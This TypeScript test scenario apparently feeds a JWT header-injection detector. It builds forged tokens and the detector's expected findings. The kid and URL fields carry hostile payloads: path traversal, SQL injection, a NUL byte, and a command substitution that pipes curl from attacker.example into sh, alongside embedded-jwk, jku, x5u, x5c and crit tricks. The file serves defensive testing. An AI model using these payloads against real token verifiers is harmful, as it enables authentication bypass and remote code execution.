import { createHmac } from 'node:crypto';
import { fingerprint, ndjson, type Kit, type Scenario } from './kit.js';

const T0 = 1773741600; // 2026-03-17T10:00:00Z
const b64 = (o: unknown): string => Buffer.from(JSON.stringify(o)).toString('base64url');

/** An HS256 token with any header: the kid-injection attacker chooses the secret the lookup will return. */
function hmacToken(header: Record<string, unknown>, claims: Record<string, unknown>, secret: string): string {
  const input = `${b64({ alg: 'HS256', typ: 'JWT', ...header })}.${b64(claims)}`;
  return `${input}.${createHmac('sha256', secret).update(input).digest('base64url')}`;
}

/** A header no library will sign (unknown crit): the signature is filler bytes. */
function unsignable(header: Record<string, unknown>, claims: Record<string, unknown>): string {
  return `${b64(header)}.${b64(claims)}.${Buffer.alloc(256, 7).toString('base64url')}`;
}

export async function scenario(kit: Kit): Promise<Scenario> {
  const c = (sub: string, jti: string) => ({ iss: 'https://auth.example', aud: 'https://api.example', sub, jti, iat: T0, exp: T0 + 900 });
  const attacker = 'https://attacker.example';
  const certBytes = Buffer.from('MIIBfake-certificate-that-is-not-in-the-registry').toString('base64');
  const embedded = await kit.sign('rsa-2', c('admin', 'embedded-jwk'), { kid: 'rsa-current', jwk: kit.publicJwk('rsa-2') });
  const jku = await kit.sign('rsa-2', c('admin', 'jku'), { kid: 'attacker-1', jku: `${attacker}/.well-known/jwks.json` });
  const x5u = await kit.sign('rsa-2', c('admin', 'x5u'), { kid: 'rsa-current', x5u: `${attacker}/cert.pem` });
  const x5c = await kit.sign('rsa-2', c('admin', 'x5c'), { kid: 'rsa-current', x5c: [certBytes] });
  const traversal = hmacToken({ kid: '../../../../../../dev/null' }, c('admin', 'kid-traversal'), '');
  const sqli = hmacToken({ kid: "x' UNION SELECT 'attacker-secret' --" }, c('admin', 'kid-sql'), 'attacker-secret');
  const shell = hmacToken({ kid: 'k1$(curl -s attacker.example/x|sh)' }, c('admin', 'kid-shell'), 'whatever-the-lookup-returns');
  const nul = await kit.sign('rsa', c('bob', 'kid-nul'), { kid: 'rsa-current\u0000' });
  const critUnknown = unsignable({ alg: 'RS256', kid: 'rsa-current', crit: ['x-tenant'], 'x-tenant': 'acme' }, c('admin', 'crit-unknown'));
  const critEmpty = unsignable({ alg: 'RS256', kid: 'rsa-current', crit: [] }, c('admin', 'crit-empty'));
  // Near misses: unusual but harmless kids and headers, all validly signed by registry keys.
  const dotted = await kit.sign('rsa-old', c('carol', 'kid-dotted'), { kid: '2026-03-rsa_key.v2' });
  const urlKid = await kit.sign('ed', c('dave', 'kid-url'), { kid: 'https://keys.example/k1', 'x5t#S256': 'uL1eRUIlnIF7P6WJ6E4Bb1R5f1M3jXNYjhpnqCyO7nE' });
  const use = (i: number, token: string, sub: string, outcome?: string) => ({
    ts: T0 + 60 * i, event: 'use', token, sub, ip: '192.0.2.66', aud: 'https://api.example', ...(outcome ? { outcome } : {}),
  });
  return {
    id: 'header-injection',
    description: 'Embedded jwk, jku, x5u, x5c, kids with traversal, SQL, shell and NUL payloads, crit misuse; plus harmless dotted and URL kids.',
    checks: ['header-injection'],
    files: {
      'keys.json': kit.jwks('rsa'),
      'keys-extra.json': JSON.stringify({
        keys: [
          { ...kit.publicJwk('rsa-old'), kid: '2026-03-rsa_key.v2' },
          { ...kit.publicJwk('ed'), kid: 'https://keys.example/k1' },
        ],
      }),
      'events.ndjson': ndjson([
        use(1, embedded, 'admin', 'success'),
        use(2, jku, 'admin', 'failure'),
        use(3, x5c, 'admin'),
        use(4, traversal, 'admin', 'success'),
        use(5, sqli, 'admin', 'failure'),
        use(6, nul, 'bob', 'failure'),
        use(7, critUnknown, 'admin', 'success'),
        use(8, critEmpty, 'admin', 'failure'),
        use(9, dotted, 'carol', 'success'),
        use(10, urlKid, 'dave', 'success'),
      ]),
      'captures.txt': `${x5u}\n${shell}\n`,
    },
    expected: [
      { check: 'header-injection', severity: 'critical', token: fingerprint(embedded), jti: 'embedded-jwk', kid: 'rsa-current' },
      { check: 'header-injection', severity: 'low', token: fingerprint(jku), jti: 'jku', kid: 'attacker-1' },
      { check: 'header-injection', severity: 'medium', token: fingerprint(x5u), jti: 'x5u', kid: 'rsa-current' },
      { check: 'header-injection', severity: 'high', token: fingerprint(x5c), jti: 'x5c', kid: 'rsa-current' },
      { check: 'header-injection', severity: 'critical', token: fingerprint(traversal), jti: 'kid-traversal' },
      { check: 'header-injection', severity: 'low', token: fingerprint(sqli), jti: 'kid-sql' },
      { check: 'header-injection', severity: 'medium', token: fingerprint(shell), jti: 'kid-shell' },
      { check: 'header-injection', severity: 'low', token: fingerprint(nul), jti: 'kid-nul', kid: 'rsa-current\u0000' },
      { check: 'header-injection', severity: 'high', token: fingerprint(critUnknown), jti: 'crit-unknown', kid: 'rsa-current' },
      { check: 'header-injection', severity: 'low', token: fingerprint(critEmpty), jti: 'crit-empty', kid: 'rsa-current' },
    ],
    near_misses: [
      "a kid like '2026-03-rsa_key.v2' (dots, hyphens, underscore) naming a registry key",
      "a URL kid 'https://keys.example/k1' (slashes inside an http(s) URL, no traversal) naming a registry key",
      'an x5t#S256 thumbprint header on a valid token (a thumbprint is not key material)',
    ],
  };
}
